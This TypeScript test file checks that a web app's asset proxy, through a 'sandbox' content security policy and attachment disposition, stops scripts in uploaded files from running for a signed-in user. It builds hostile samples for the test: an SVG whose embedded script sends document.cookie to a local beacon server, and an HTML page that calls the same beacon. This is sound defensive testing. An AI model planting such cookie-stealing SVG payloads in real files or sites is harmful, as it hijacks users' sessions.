// @vitest-environment node
/**
 * The asset proxy against a file made to attack the user who opens it: an SVG and an HTML page with a script that
 * calls home. Opened in Chromium by a signed-in user, from the real server, neither may run its script; the same
 * file served without Assay's headers does, so the check would see a script that ran.
 */
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import type { Server } from "node:http";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";

import type { Browser, BrowserContext } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { launchChromium } from "../browser";
import type { ServerProcess } from "../server-process";
import { spawnServer } from "../server-process";
import { signIn } from "../sign-in";

let server: ServerProcess;
let dataRoot: string;
let beacon: Server;
let beaconUrl: string;
let browser: Browser;
let context: BrowserContext;
/** What the files' scripts reported, and what the beacon served as the control. */
const hits: string[] = [];
const files: Record<string, { body: (home: string) => string; type: string }> = {
  "evil.svg": {
    type: "image/svg+xml",
    body: (home) =>
      `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("${home}/hit?svg&amp;cookie=" + encodeURIComponent(document.cookie))</script></svg>`,
  },
  "evil.html": {
    type: "text/html",
    body: (home) => `<!doctype html><script>fetch("${home}/hit?html")</script>`,
  },
};

beforeAll(async () => {
  beacon = createServer((req, res) => {
    const name = /^\/file\/(.+)$/.exec(req.url ?? "")?.[1];
    const file = name ? files[name] : undefined;
    if (file) {
      res.writeHead(200, { "Content-Type": file.type });
      return void res.end(file.body(beaconUrl));
    }
    if (req.url?.startsWith("/hit")) hits.push(req.url);
    res.writeHead(204, { "Access-Control-Allow-Origin": "*" });
    res.end();
  });
  await new Promise<void>((resolve) => beacon.listen(0, "127.0.0.1", resolve));
  beaconUrl = `http://127.0.0.1:${(beacon.address() as AddressInfo).port}`;
  dataRoot = mkdtempSync(join(tmpdir(), "assay-evil-assets-"));
  for (const [name, file] of Object.entries(files))
    writeFileSync(join(dataRoot, name), file.body(beaconUrl));
  server = await spawnServer(["--data-root", dataRoot]);
  browser = await launchChromium();
  context = await browser.newContext({ acceptDownloads: false });
  const page = await context.newPage();
  await signIn(page, server.url, server.token);
  await page.close();
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await server?.stop();
  await new Promise((resolve) => beacon?.close(resolve));
  if (dataRoot) rmSync(dataRoot, { recursive: true, force: true });
});

/** Opens `url` in a tab, lets any script run, and returns the beacon's hits meanwhile. */
async function open(url: string): Promise<string[]> {
  const page = await context.newPage();
  const before = hits.length;
  // A download aborts the navigation: that is one of the outcomes being checked, not a failure.
  await page.goto(url).catch(() => undefined);
  await page.waitForTimeout(1000);
  await page.close();
  return hits.slice(before);
}

describe("an asset with a script, opened by a signed-in user in Chromium", () => {
  it("the control: served as is, by another server, its script runs", async () => {
    expect(await open(`${beaconUrl}/file/evil.svg`)).toEqual([
      expect.stringMatching(/^\/hit\?svg/),
    ]);
    expect(await open(`${beaconUrl}/file/evil.html`)).toEqual(["/hit?html"]);
  });

  it.each(Object.keys(files))("%s from the asset proxy runs nothing", async (name) => {
    const url = `${server.url}/assets?path=${encodeURIComponent(join(dataRoot, name))}`;
    const response = await fetch(url, { headers: { authorization: `Bearer ${server.token}` } });
    expect(response.headers.get("content-security-policy")).toBe("sandbox");
    expect(response.headers.get("content-disposition")).toBe("attachment");
    // The browser's session may read it (so a script in it would have the user's rights), and it runs nothing.
    expect((await context.request.get(url)).status()).toBe(200);
    expect(await open(url)).toEqual([]);
  });
});
